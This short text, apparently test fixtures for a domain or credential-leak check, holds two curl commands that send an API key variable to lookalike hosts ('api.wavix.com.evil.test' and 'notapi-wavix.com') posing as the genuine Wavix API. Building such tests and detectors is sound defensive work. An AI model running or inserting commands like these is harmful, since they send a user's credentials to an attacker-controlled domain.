curl "https://api.wavix.com.evil.test/v1/calls?appid=$KEY"
curl "https://notapi-wavix.com/v1/calls?appid=$KEY"
